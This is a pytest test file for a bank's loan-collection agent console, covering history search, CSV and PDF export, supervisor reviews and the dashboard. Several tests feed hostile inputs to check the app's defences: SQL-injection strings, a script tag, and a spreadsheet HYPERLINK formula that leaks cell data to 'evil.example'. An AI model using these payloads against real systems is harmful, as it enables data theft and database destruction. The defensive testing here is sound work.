"""The agents' workspace in the console app, on SQLite and PostgreSQL: history and its CSV,
the PDF of a kept transcript, supervisors' reviews, the dashboard and its supervisor panel.
(The whole journey with the real servers and a browser is tests/test_workspace_browser.py.)"""
import csv
import io
import re
import subprocess
import uuid
from datetime import timedelta

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import delete, select

from overdue.clock import now_in_china
from console.app import create_app
from overdue.passwords import hash_password
from gateways.rasa_http import RasaAPI
from loandb.models import Agent, AuditEntry, ConsoleSession, Customer, HandoffTicket, TicketReview
from loandb.session import session_scope
from loandb.transcripts import keep_transcript

PASSWORD = "workspace test password"


@pytest.fixture
def workspace(seeded_db_url, tmp_path, monkeypatch):
    """The console on the test database (Rasa unreachable), an agent, a supervisor, and a
    resolved ticket of 张伟's with a kept transcript, plus an open one waiting long."""
    monkeypatch.setenv("LOAN_DB_URL", seeded_db_url)
    monkeypatch.setenv("TRACKER_DB_URL", f"sqlite:///{tmp_path / 'tracker.db'}")
    marker = uuid.uuid4().hex[:8]
    now = now_in_china()
    with session_scope(seeded_db_url) as session:
        agent = Agent(username=f"ws-agent-{marker}", display_name=f"小周{marker}", password_hash=hash_password(PASSWORD))
        boss = Agent(username=f"ws-boss-{marker}", display_name=f"主管{marker}", role="supervisor",
                     password_hash=hash_password(PASSWORD))
        session.add_all([agent, boss])
        session.flush()
        zhang = session.execute(select(Customer).where(Customer.name == "张伟")).scalars().one()
        resolved = HandoffTicket(conversation_id=f"ws-{marker}", channel="wechat", reason="complaint", priority=2,
                                 status="resolved", summary="{}", created_at=now - timedelta(hours=2),
                                 resolved_at=now - timedelta(hours=1), agent_id=agent.id, customer_id=zhang.id)
        waiting = HandoffTicket(conversation_id=f"ws-wait-{marker}", channel="rest", reason="customer_request",
                                priority=3, status="open", summary="{}", created_at=now - timedelta(minutes=40))
        session.add_all([resolved, waiting])
        session.flush()
        words = f"罚息怎么这么高，我要投诉{marker}"
        keep_transcript(session, resolved.id, [
            {"at": (now - timedelta(hours=2)).isoformat(timespec="seconds"), "sender": "customer", "agent": "",
             "text": words, "intent": "complain", "confidence": 0.93, "emotion": 0.62},
            {"at": (now - timedelta(hours=1)).isoformat(timespec="seconds"), "sender": "agent", "agent": agent.display_name,
             "text": "您好，我来为您核实罚息", "intent": "", "confidence": None, "emotion": None},
        ], now)
        ids = {"agent": agent.id, "boss": boss.id, "resolved": resolved.id, "waiting": waiting.id}
    app = create_app(RasaAPI("http://127.0.0.1:9"), secret_key="workspace-test")
    yield {"app": app, "ids": ids, "marker": marker, "words": words, "url": seeded_db_url,
           "agent": f"ws-agent-{marker}", "boss": f"ws-boss-{marker}"}
    with session_scope(seeded_db_url) as session:
        made = [ids["resolved"], ids["waiting"]]
        session.execute(delete(TicketReview).where(TicketReview.ticket_id.in_(made)))
        session.execute(delete(AuditEntry).where(AuditEntry.agent_id.in_([ids["agent"], ids["boss"]])))
        session.execute(delete(ConsoleSession).where(ConsoleSession.agent_id.in_([ids["agent"], ids["boss"]])))
        session.execute(delete(HandoffTicket).where(HandoffTicket.id.in_(made)))
        session.execute(delete(Agent).where(Agent.id.in_([ids["agent"], ids["boss"]])))


def csrf_of(html: str) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', html).group(1)


def signed_in(workspace, who: str) -> TestClient:
    client = TestClient(workspace["app"], base_url="http://127.0.0.1")
    token = csrf_of(client.get("/agent/login").text)
    response = client.post("/agent/login", data={"username": workspace[who], "password": PASSWORD, "csrf": token},
                           follow_redirects=False)
    assert response.status_code == 303, response.text
    return client


def audited(workspace, action: str) -> int:
    with session_scope(workspace["url"]) as session:
        return len(session.execute(select(AuditEntry).where(
            AuditEntry.action == action, AuditEntry.agent_id.in_([workspace["ids"]["agent"], workspace["ids"]["boss"]])
        )).scalars().all())


def test_the_history_finds_a_ticket_by_the_customers_words_and_links_to_it(workspace):
    client = signed_in(workspace, "agent")
    page = client.get("/agent/history", params={"q": f"我要投诉{workspace['marker']}"})
    assert page.status_code == 200
    assert f'href="/agent/tickets/{workspace["ids"]["resolved"]}"' in page.text
    assert "张伟" in page.text and "投诉" in page.text and "共 1 条" in page.text
    everything = client.get("/agent/history").text
    assert everything.index(f'#{workspace["ids"]["waiting"]}<') < everything.index(f'#{workspace["ids"]["resolved"]}<')


@pytest.mark.parametrize("params", [
    {"q": "罚" * 5000}, {"q": "%' OR 1=1 --"}, {"q": '" OR "'}, {"since": "yesterday", "until": "2026-13-45"},
    {"priority": "-1", "agent": "abc", "page": "99999999999999"}, {"reason": "<script>", "review": "nonsense"},
    {"customer": "'; DROP TABLE customers; --"}, {"q": "\x00罚息\x07"}, {"customer": "\x00"},
])
def test_hostile_or_malformed_filters_get_a_page_not_an_error(workspace, params):
    client = signed_in(workspace, "agent")
    page = client.get("/agent/history", params=params)
    assert page.status_code == 200 and "历史记录" in page.text and "<script>" not in page.text.split("</form>")[1]


def test_the_csv_opens_in_excel_with_its_chinese_and_is_audited(workspace):
    client = signed_in(workspace, "agent")
    response = client.get("/agent/history.csv", params={"customer": "张伟", "agent": workspace["ids"]["agent"]})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert table[0][:4] == ["工单号", "转人工时间", "结束时间", "原因"]
    [row] = table[1:]
    assert row[0] == str(workspace["ids"]["resolved"]) and row[3] == "投诉" and row[4] == "微信"
    assert row[7] == "张伟" and row[8] == "3021" and "110101" not in response.content.decode("utf-8-sig")
    assert audited(workspace, "export_history_csv") == 1


def test_a_resolved_ticket_is_read_only_and_shows_the_kept_transcript(workspace):
    client = signed_in(workspace, "agent")
    page = client.get(f"/agent/tickets/{workspace['ids']['resolved']}")
    assert page.status_code == 200 and 'id="read-only"' in page.text
    assert workspace["words"] in page.text  # kept by the bank: Rasa is not even reachable here
    assert "/reply" not in page.text and "/resolve" not in page.text and "/notes" not in page.text
    assert 'action="/agent/tickets/' not in page.text.split('id="review"')[-1]  # no review form for an agent


def test_the_pdf_has_the_customers_words_a_masked_header_and_is_audited(workspace, tmp_path):
    client = signed_in(workspace, "agent")
    response = client.get(f"/agent/tickets/{workspace['ids']['resolved']}/transcript.pdf")
    assert response.status_code == 200 and response.headers["content-type"] == "application/pdf"
    (tmp_path / "t.pdf").write_bytes(response.content)
    words = subprocess.run(["pdftotext", str(tmp_path / "t.pdf"), "-"], capture_output=True, text=True,
                           check=True).stdout
    assert workspace["words"] in words and "您好，我来为您核实罚息" in words
    assert f"#{workspace['ids']['resolved']}" in words and "张伟" in words and "微信" in words
    assert "**************3021" in words and "110101" not in words
    assert f"小周{workspace['marker']}" in words and "意图 complain" in words and "情绪 0.62" in words
    assert audited(workspace, "export_pdf") == 1
    assert client.get("/agent/tickets/999999999/transcript.pdf").status_code == 404


def test_only_a_supervisor_reviews_and_only_a_resolved_ticket(workspace):
    resolved, waiting = workspace["ids"]["resolved"], workspace["ids"]["waiting"]
    agent = signed_in(workspace, "agent")
    token = csrf_of(agent.get(f"/agent/tickets/{resolved}").text)
    form = {"outcome": "needs_improvement", "score": "3", "comment": "先致歉，再说明减免条件", "csrf": token}
    assert agent.post(f"/agent/tickets/{resolved}/review", data=form, follow_redirects=False).status_code == 403
    boss = signed_in(workspace, "boss")
    token = csrf_of(boss.get(f"/agent/tickets/{resolved}").text)
    assert boss.post(f"/agent/tickets/{resolved}/review", data={**form, "csrf": "forged"},
                     follow_redirects=False).status_code == 403
    for bad in ({"score": "6"}, {"score": "0"}, {"outcome": "great"}, {"score": ""}):
        assert boss.post(f"/agent/tickets/{resolved}/review", data={**form, "csrf": token, **bad},
                         follow_redirects=False).status_code == 400
    assert boss.post(f"/agent/tickets/{waiting}/review", data={**form, "csrf": token},
                     follow_redirects=False).status_code == 400
    assert boss.post(f"/agent/tickets/{resolved}/review", data={**form, "csrf": token},
                     follow_redirects=False).status_code == 303
    page = boss.get(f"/agent/tickets/{resolved}").text
    assert "需改进" in page and "3 分" in page and "先致歉，再说明减免条件" in page
    assert audited(workspace, "review") == 1
    found = agent.get("/agent/history", params={"review": "needs_improvement", "agent": workspace["ids"]["agent"]})
    assert f"#{resolved}<" in found.text and "需改进 · 3分" in found.text
    # Reviewing again replaces the review.
    boss.post(f"/agent/tickets/{resolved}/review", data={**form, "csrf": token, "outcome": "handled_well",
                                                         "score": "5"}, follow_redirects=False)
    with session_scope(workspace["url"]) as session:
        [review] = session.execute(select(TicketReview).where(TicketReview.ticket_id == resolved)).scalars().all()
        assert (review.outcome, review.score) == ("handled_well", 5)


def test_the_dashboard_shows_reviews_per_agent_and_the_supervisor_panel(workspace):
    resolved = workspace["ids"]["resolved"]
    with session_scope(workspace["url"]) as session:
        session.add(TicketReview(ticket_id=resolved, reviewer_id=workspace["ids"]["boss"], outcome="handled_well",
                                 score=4, comment="", reviewed_at=now_in_china()))
    boss = signed_in(workspace, "boss").get("/agent/dashboard").text
    agent_name = f"小周{workspace['marker']}"
    reviews = boss.split('id="reviews"')[1]
    assert re.search(rf"<td>{agent_name}</td><td>1</td>\s*<td>1</td><td>0</td><td>0</td><td>4.0</td>", reviews)
    panel = boss.split('id="supervisor-panel"')[1].split("</section>")[0]
    waiting_row = re.search(rf'<tr class="([^"]*)">\s*<td><a href="/agent/tickets/{workspace["ids"]["waiting"]}"', panel)
    assert waiting_row and waiting_row.group(1) == "over-target" and "超时" in panel  # 40 minutes against 5
    assert f"主管{workspace['marker']}（主管）" in panel  # online: just signed in
    assert "今日" in boss and "近 7 天" in boss and "对比昨日" in boss
    agent_page = signed_in(workspace, "agent").get("/agent/dashboard").text
    assert 'id="supervisor-panel"' not in agent_page and agent_name in agent_page


def test_the_dashboard_figures_compare_with_the_period_before(workspace):
    client = signed_in(workspace, "boss")
    figures = client.get("/agent/api/dashboard").json()
    today = {h["key"]: h for h in figures["today"]}
    assert today["handoffs"]["value"] >= 2 and today["median_wait"]["value"] is not None
    assert len(figures["days"]) == 14 and len(figures["series"]["handoffs"]) == 14
    assert {"reason": "投诉", "count": 1} in [r for r in figures["reasons"] if r["reason"] == "投诉"] or \
        any(r["reason"] == "投诉" and r["count"] >= 1 for r in figures["reasons"])
    assert figures["panel"]["target_minutes"] == 5


def test_canned_replies_are_filled_from_the_panel_and_searchable(workspace):
    from decimal import Decimal

    from loandb.snapshots import customer_snapshot
    from overdue.clock import today_in_china
    from overdue.money import format_yuan
    from overdue.bank_rules import load_bank_rules

    client = signed_in(workspace, "agent")
    replies = client.get(f"/agent/api/tickets/{workspace['ids']['resolved']}/canned-replies").json()["replies"]
    assert len(replies) >= 5 and all("{" not in r["text"] for r in replies)
    with session_scope(workspace["url"]) as session:
        zhang = session.execute(select(Customer).where(Customer.name == "张伟")).scalars().one()
        loans = [loan for loan in customer_snapshot(session, zhang.id, today_in_china(), load_bank_rules())
                 if loan.overdue_amount]
    owed = format_yuan(sum((loan.overdue_amount + loan.charges for loan in loans), Decimal("0")))
    due = min(loan.earliest_due_date for loan in loans)
    amount = next(r for r in replies if r["title"] == "告知欠款金额")["text"]
    assert amount.startswith("张伟您好") and owed in amount and f"{due.year}年{due.month}月{due.day}日" in amount
    assert owed.startswith("12,")  # 张伟's card statement, 12,000.00 and its charges
    found = client.get(f"/agent/api/tickets/{workspace['ids']['resolved']}/canned-replies", params={"q": "罚息"})
    assert {r["title"] for r in found.json()["replies"]} == {"告知欠款金额", "罚息减免说明"}
    # Not verified: the placeholders show, for the agent to fill.
    unverified = client.get(f"/agent/api/tickets/{workspace['ids']['waiting']}/canned-replies",
                            params={"q": "欠款"}).json()["replies"]
    assert "〔客户姓名〕" in unverified[0]["text"] and "〔欠款金额〕" in unverified[0]["text"]
    assert client.get("/agent/api/tickets/999999999/canned-replies").status_code == 404
    page = client.get(f"/agent/tickets/{workspace['ids']['waiting']}").text
    assert 'id="canned-replies"' in page and "/agent/static/canned.js" in page


def test_the_history_pages_through_every_ticket_and_counts_up_to_a_limit(workspace, monkeypatch):
    import console.history

    monkeypatch.setattr(console.history, "PER_PAGE", 1)
    monkeypatch.setattr(console.history, "COUNT_UP_TO", 1)
    client = signed_in(workspace, "agent")
    first = client.get("/agent/history", params={"agent": workspace["ids"]["agent"]}).text
    assert "共 1 条" in first and "page=2" not in first  # one ticket resolved by this agent
    everything = client.get("/agent/history").text
    assert "超过 1 条" in everything and "page=2" in everything  # more than counted: still a next page
    second = client.get("/agent/history", params={"page": "2"}).text
    assert "第 2 页" in second and "page=1" in second  # and a way back


def test_a_customers_words_that_look_like_a_formula_stay_text_in_the_csv(workspace):
    attack = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    with session_scope(workspace["url"]) as session:
        keep_transcript(session, workspace["ids"]["resolved"], [
            {"at": now_in_china().isoformat(timespec="seconds"), "sender": "customer", "agent": "", "text": attack,
             "intent": "", "confidence": None, "emotion": None}], now_in_china())
    client = signed_in(workspace, "agent")
    response = client.get("/agent/history.csv", params={"agent": workspace["ids"]["agent"]})
    [row] = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
    assert row[-1] == "'" + attack  # Excel shows it, never runs it


def test_an_open_tickets_pdf_needs_rasa_and_says_so_politely_when_it_is_away(workspace):
    client = signed_in(workspace, "agent")
    response = client.get(f"/agent/tickets/{workspace['ids']['waiting']}/transcript.pdf")
    assert response.status_code == 503 and "Traceback" not in response.text
